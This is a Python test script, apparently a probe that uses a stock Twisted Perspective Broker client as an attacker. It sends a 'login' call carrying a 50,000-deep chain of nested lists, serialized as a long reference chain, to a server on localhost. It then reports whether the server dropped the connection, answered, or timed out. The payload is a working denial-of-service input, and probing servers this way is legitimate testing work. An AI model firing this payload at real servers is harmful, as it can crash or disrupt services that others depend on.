"""
Stock Twisted as an attacker: root.callRemote("login", *chain), where chain is 50,000
lists, each holding the one before it. Twisted's jelly sends every list after the first
as [reference, n, [list, [dereference, n-1]]], so the server receives a 50,000-link
reference chain from an unmodified client.

    python twisted_reference_chain.py PORT [LENGTH]

Prints one line and exits:
  0  DROPPED: the server closed the connection (the call failed with a lost connection)
  1  ANSWERED: the server answered or refused the call and kept the connection
  2  TIMEOUT: nothing happened within 30 s
  3  ERROR: the client could not connect or could not send
"""

import sys

from twisted.internet import defer, error, reactor, task
from twisted.spread import pb

PORT = int(sys.argv[1])
LENGTH = int(sys.argv[2]) if len(sys.argv) > 2 else 50_000


def chain(length):
    links = []
    previous = []
    for _ in range(length):
        current = [previous]
        links.append(current)
        previous = current
    return links


@defer.inlineCallbacks
def main(reactor):
    factory = pb.PBClientFactory()
    reactor.connectTCP("127.0.0.1", PORT, factory)
    try:
        root = yield factory.getRootObject()
    except Exception as failure:
        print("ERROR could not get the root object: %r" % (failure,))
        return 3
    lost = defer.Deferred()
    root.notifyOnDisconnect(lambda _: lost.called or lost.callback(None))
    try:
        call = root.callRemote("login", *chain(LENGTH))
    except Exception as failure:
        print("ERROR could not send the call: %r" % (failure,))
        return 3
    outcome = defer.Deferred()
    call.addCallbacks(lambda value: ("answer", value), lambda failure: ("failure", failure))
    call.addBoth(lambda result: outcome.called or outcome.callback(result))
    lost.addCallback(lambda _: outcome.called or outcome.callback(("lost", None)))
    timer = reactor.callLater(30, lambda: outcome.called or outcome.callback(("timeout", None)))
    kind, value = yield outcome
    if timer.active():
        timer.cancel()
    if kind == "lost" or (kind == "failure" and value.check(pb.PBConnectionLost, error.ConnectionLost, error.ConnectionDone)):
        print("DROPPED the server closed the connection")
        return 0
    if kind == "timeout":
        print("TIMEOUT no answer and no close within 30 s")
        factory.disconnect()
        return 2
    print("ANSWERED %s: %s" % (kind, str(value)[:300]))
    factory.disconnect()
    return 1


def run(reactor):
    def finish(code):
        # Exit with the code itself: task.react treats a non-zero result as success.
        sys.stdout.flush()
        reactor.callLater(0, reactor.stop)
        global EXIT
        EXIT = code
    d = main(reactor)
    d.addCallback(finish)
    d.addErrback(lambda failure: (print("ERROR %s" % failure.getErrorMessage()), finish(3)))
    return d


EXIT = 3
reactor.callWhenRunning(run, reactor)
reactor.run()
sys.exit(EXIT)
